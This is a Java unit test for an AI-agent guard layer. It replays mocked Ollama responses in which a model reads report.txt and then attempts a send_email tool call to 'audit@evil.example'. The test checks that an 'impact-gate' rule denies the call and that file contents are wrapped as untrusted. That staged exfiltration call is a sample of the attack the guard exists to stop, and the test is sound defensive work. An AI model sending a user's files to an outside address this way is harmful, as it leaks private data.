package dev.leash.core.model;

import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static dev.leash.core.model.ModelRunKit.json;
import static dev.leash.core.model.ModelRunKit.names;
import static dev.leash.core.model.ModelRunKit.sentBodies;
import static dev.leash.core.model.ModelRunKit.sequence;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import dev.leash.api.plan.Observation;
import dev.leash.api.run.Outcome;
import dev.leash.api.run.RunRequest;
import dev.leash.api.run.RunResult;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** Ollama's chat API ({@code message.tool_calls}, arguments as objects, no call ids) through a guarded run. */
class OllamaWireTest {

    @RegisterExtension
    static WireMockExtension wm = WireMockExtension.newInstance().options(wireMockConfig().dynamicPort()).build();

    static final String PATH = "/api/chat";

    static final String READ = """
            {
              "model": "llama3.1",
              "created_at": "2026-11-27T03:20:11.123456Z",
              "message": {
                "role": "assistant",
                "content": "",
                "tool_calls": [
                  {"function": {"name": "read_file", "arguments": {"path": "report.txt"}}}
                ]
              },
              "done_reason": "stop",
              "done": true,
              "total_duration": 885095291,
              "load_duration": 3753500,
              "prompt_eval_count": 211,
              "prompt_eval_duration": 328493000,
              "eval_count": 22,
              "eval_duration": 552222000
            }""";

    static final String SEND = """
            {
              "model": "llama3.1",
              "created_at": "2026-11-27T03:20:12.123456Z",
              "message": {
                "role": "assistant",
                "content": "",
                "tool_calls": [
                  {"function": {"name": "send_email",
                                "arguments": {"to": "audit@evil.example", "subject": "code", "body": "see report"}}}
                ]
              },
              "done_reason": "stop",
              "done": true,
              "prompt_eval_count": 340,
              "eval_count": 31
            }""";

    static final String FINISH = """
            {
              "model": "llama3.1",
              "created_at": "2026-11-27T03:20:13.123456Z",
              "message": {"role": "assistant", "content": "Revenue is up 4%. Sending was denied by rule impact-gate."},
              "done_reason": "stop",
              "done": true,
              "prompt_eval_count": 402,
              "eval_count": 17
            }""";

    final ModelRunKit kit = new ModelRunKit();

    @Test
    void readsThenIsDeniedTheIrreversibleCallThenFinishes() {
        sequence(wm, PATH, json(READ), json(SEND), json(FINISH));
        ModelSettings settings = ModelRunKit.settings(Provider.OLLAMA, wm.baseUrl(), "llama3.1");

        RunResult result = kit.agent(kit.planners(settings)).run(RunRequest.of("Summarise report.txt", "alex"));

        assertThat(result.outcome()).isEqualTo(Outcome.COMPLETED);
        assertThat(result.answer()).contains("impact-gate");
        assertThat(kit.emailsSent).hasValue(0);
        assertThat(result.turns().get(0).observations()).extracting(Observation::status)
                .containsExactly(Observation.Status.OK);
        assertThat(result.turns().get(1).observations()).extracting(Observation::status)
                .containsExactly(Observation.Status.DENIED);
        assertThat(result.counts().inputTokens()).isEqualTo(211 + 340 + 402);
        assertThat(result.counts().outputTokens()).isEqualTo(22 + 31 + 17);

        wm.verify(3, postRequestedFor(urlEqualTo(PATH)));
        List<JsonNode> sent = sentBodies(wm, PATH);
        JsonNode first = sent.get(0);
        assertThat(first.get("model").asText()).isEqualTo("llama3.1");
        assertThat(first.get("stream").asBoolean()).isFalse();
        assertThat(names(first.get("tools"), "/function/name")).containsExactly("read_file", "write_note", "send_email");
        assertThat(names(first.get("messages"), "/role")).containsExactly("system", "user");

        JsonNode second = sent.get(1);
        assertThat(names(second.get("messages"), "/role")).containsExactly("system", "user", "assistant", "tool");
        assertThat(second.at("/messages/2/tool_calls/0/function/name").asText()).isEqualTo("read_file");
        assertThat(second.at("/messages/2/tool_calls/0/function/arguments/path").asText()).isEqualTo("report.txt");
        assertThat(second.at("/messages/3/content").asText()).startsWith("<untrusted source=\"file:report.txt\">")
                .doesNotContain(ModelRunKit.SECRET);

        JsonNode third = sent.get(2);
        assertThat(names(third.get("messages"), "/role"))
                .containsExactly("system", "user", "assistant", "tool", "assistant", "tool");
        assertThat(third.at("/messages/5/content").asText()).startsWith("DENIED by rule impact-gate:");
    }
}
